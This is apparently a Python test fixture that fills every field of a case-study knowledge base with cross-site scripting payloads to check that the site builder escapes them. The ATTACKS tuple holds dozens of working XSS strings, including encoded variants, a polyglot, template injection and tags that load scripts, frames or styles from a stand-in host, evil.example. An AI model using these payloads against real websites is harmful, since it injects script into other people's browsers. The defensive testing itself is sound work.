"""A collection by somebody who tries to run a script in every reader's browser, in every field that takes text."""

from __future__ import annotations

import json
from collections.abc import Iterable, Mapping
from pathlib import Path, PurePosixPath
from textwrap import dedent

from kb.authoring.parsing.case_file import parse_case_file
from kb.model.vocabulary import Vocabularies
from tests.library import Library

ELSEWHERE = "evil.example"

ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    f"<script src=//{ELSEWHERE}/x.js></script>",
    f"<img src=https://{ELSEWHERE}/x.gif onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></table></math><img src onerror=alert(1)>",
    f"<iframe src=https://{ELSEWHERE}></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:parent.alert(1)>",
    "<object data=javascript:alert(1)>",
    f"<embed src=https://{ELSEWHERE}/x.swf>",
    f"<link rel=stylesheet href=https://{ELSEWHERE}/x.css>",
    f"<style>@import 'https://{ELSEWHERE}/x.css'</style>",
    f"<meta http-equiv=refresh content='0;url=https://{ELSEWHERE}'>",
    f"<base href=https://{ELSEWHERE}/>",
    f"<form action=https://{ELSEWHERE}><input autofocus onfocus=alert(1)></form>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<p style=\"background:url('https://" + ELSEWHERE + "/x')\">",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "' onmouseover='alert(1)' autofocus onfocus='alert(1)' x='",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"><svg/onload=alert(1)>',
    "` onfocus=alert(1) autofocus x=`",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</ScRiPt ><svg onload=alert(1)>",
    "<!--<script>alert(1)//-->",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<noscript><p title='</noscript><img src onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    f"//{ELSEWHERE}/x",
    "{{ 7 * 7 }}{% for x in y %}",
    "${alert(1)}#{alert(1)}",
    '";alert(1);//',
    "');alert(1);//",
    "__proto__",
    "constructor",
    "[x](javascript:alert(1))",
    f"![x](https://{ELSEWHERE}/x.gif)",
    f"[x](https://x.example\" onclick=\"alert(1)) <{ELSEWHERE}>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
)  # fmt: skip
"""Into elements, attributes of every kind of quote, elements that contain text only, comments, data, scripts, addresses
and templates; and twice encoded ones.
"""

HEAD = (
    "title", "summary", "arrangement", "showed", "handled", "experienced", "lead", "partner", "resources", "question",
    "evidence", "contributor", "reviewer", "source", "by",
)  # fmt: skip
BODY = (
    "Context", "What they do", "Who is at the table", "What helped", "What was hard", "What is known about results",
    "Lessons for another city",
)  # fmt: skip
FIELDS = (*HEAD, *BODY, "locator", "heading", "code", "link", "target", "table")


def name_of(attack: str) -> str:
    """A name for a test with this attack."""
    return f"attack {ATTACKS.index(attack)}"


def slug_of(number: int) -> str:
    """The case with this attack."""
    return f"attack-{number:02}"


def city_of(number: int) -> str:
    """The city whose name is this attack."""
    return f"city-{number:02}"


def attacked_case(number: int, attack: str, fields: Iterable[str]) -> str:
    """A case file with an attack in these fields, and harmless words in the others."""

    def text(field: str, otherwise: str = "Words.") -> str:
        return attack if field in fields else otherwise

    head = {
        "title": text("title"),
        "summary": text("summary"),
        "city": [city_of(number)],
        "started": 2010,
        "status": "ongoing",
        "arrangements": {"informing-and-intervening": text("arrangement")},
        "challenges": {"fragile-trust": {"showed": text("showed"), "handled": text("handled")}},
        "experienced_as": {"intelligence-link": text("experienced")},
        "extremism": ["far-right"],
        "audiences": ["youth"],
        "lead": {text("lead", "Police"): "police"},
        "partners": {text("partner", "University"): "research"},
        "resources": text("resources"),
        "questions": [f"{text('question')}?"],
        "evidence": {"level": "described", "note": text("evidence")},
        "language": "en",
        "contributors": [text("contributor")],
        "publication": "published",
        "review": {"state": "reviewed", "date": "2026-03-31", "by": text("reviewer")},
        "aliases": [],
        "sources": {
            "s1": {"title": text("source"), "by": text("by"), "year": 2020, "url": "https://example.org/report"},
        },
    }
    extra = [
        f"Cited here [@s1, {text('locator', 'page 1')}].",
        f"### {text('heading')}\n\nAnd below it [@s1].",
        f"```\n{text('code')}\n```\n\n`{text('code')}` in words [@s1].",
        f"A [{text('link')}](https://example.org) [@s1].",
        f"Another [link]({text('target', 'https://example.org')}) [@s1].",
        f"| a | b |\n|---|---|\n| {text('table')} | [@s1] |",
    ]
    sections = {name: [f"{text(name)} [@s1]"] for name in BODY}
    sections["Context"] += extra
    body = "".join(f"\n## {name}\n\n" + "\n\n".join(parts) + "\n" for name, parts in sections.items())
    # JSON is YAML, with every sign of a text escaped as it has to be.
    lines = "".join(f"{key}: {json.dumps(value, ensure_ascii=False)}\n" for key, value in head.items())
    return f"---\n{lines}---\n{body}"


def accepted_fields(number: int, attack: str, vocabularies: Vocabularies) -> list[str]:
    """The fields in which the reader takes an attack for what it is: a text."""

    def is_accepted(fields: Iterable[str]) -> bool:
        text = attacked_case(number, attack, fields)
        path = PurePosixPath(f"cases/{slug_of(number)}.md")
        return parse_case_file(path, text.encode(), vocabularies).case is not None

    accepted = [field for field in FIELDS if is_accepted([field])]
    assert is_accepted(accepted)
    return accepted


def attacked_vocabularies() -> Mapping[str, str]:
    """Vocabularies in which every name, other name and description is an attack."""
    worst, quoted, closing = ATTACKS[-1], ATTACKS[25], ATTACKS[34]

    def term(attack: str, **more: object) -> dict[str, object]:
        return {"label": attack, "description": f"{attack} {closing}", "aliases": [f"other {attack}"], **more}

    def arrangement(attack: str, kind: str) -> dict[str, object]:
        lines = {"purpose": worst, "table": quoted, "flow": closing, "decides_together": f"Yes, {worst}"}
        return term(attack, flow_kind=kind, named_person="yes", **lines)

    def answer(attack: str) -> dict[str, object]:
        return {"label": attack, "fits": ["yes"], "note": quoted, "note_heading": closing, "note_before": worst}

    numbered = list(enumerate(ATTACKS))
    files: dict[str, object] = {
        "arrangements": {
            "informing-and-intervening": arrangement(worst, "circle"),
            "intelligence-link": arrangement(closing, "one-way"),
        },
        "challenges": {"fragile-trust": term(quoted)},
        "cities": {
            city_of(number): {
                "label": attack,
                "country": f"country-{number:02}",
                "latitude": number - 30,
                "longitude": 2 * number - 60,
                "aliases": [f"other {number} {attack}"],
            }
            for number, attack in numbered
        },
        "countries": {
            f"country-{number:02}": {"label": f"Land of {attack}", "continent": "Europe", "aliases": []}
            for number, attack in numbered
        },
        "audiences": {"youth": term(worst)},
        "sectors": {"police": term(quoted), "research": term(closing)},
        "regions": {"north": {"label": f"North of {worst}", "aliases": [], "countries": ["country-00"]}},
        "extremism": {"far-right": term(worst)},
        "evidence": {"described": term(closing)},
        "statuses": {"ongoing": term("Ongoing"), "ended": term("Ended"), "unknown": term("Not known")},
        "questions": {
            "person": {
                "label": worst,
                "description": quoted,
                "looks_at": "named_person",
                "answers": {"yes": answer(worst), "no": answer(closing)},
            }
        },
    }
    return {name: json.dumps(value, ensure_ascii=False) for name, value in files.items()}


GUIDE = f"""---
sources:
  s1:
    title: {json.dumps(ATTACKS[-1])}
    by: {json.dumps(ATTACKS[25])}
    year: 2020
    url: "https://example.org/?<script>alert(1)</script>"
---

## What it is

`{ATTACKS[0]}` and {ATTACKS[53]} and [words](https://example.org "{ATTACKS[48]}") [@s1, {ATTACKS[48]}].

## How it shows

- &lt;script&gt;alert(1)&lt;/script&gt; [@s1].

## Ways people have handled it

```
{ATTACKS[34]}
```
"""


def attacked_library(root: Path) -> Library:
    """All of it, built."""
    library = Library(root, {})
    for name, text in attacked_vocabularies().items():
        library.vocabulary(name).write_text(text, "utf-8")
    library.vocabulary("synonyms").write_text(dedent("- [CVE, P/CVE]\n"), "utf-8")
    vocabularies, problems = library.content.vocabularies()
    assert [str(problem) for problem in problems] == []
    for number, attack in enumerate(ATTACKS):
        accepted = accepted_fields(number, attack, vocabularies)
        assert set(HEAD) <= set(accepted)
        library.write(slug_of(number), attacked_case(number, attack, accepted))
    library.write_guide(GUIDE)
    library.build()
    return library
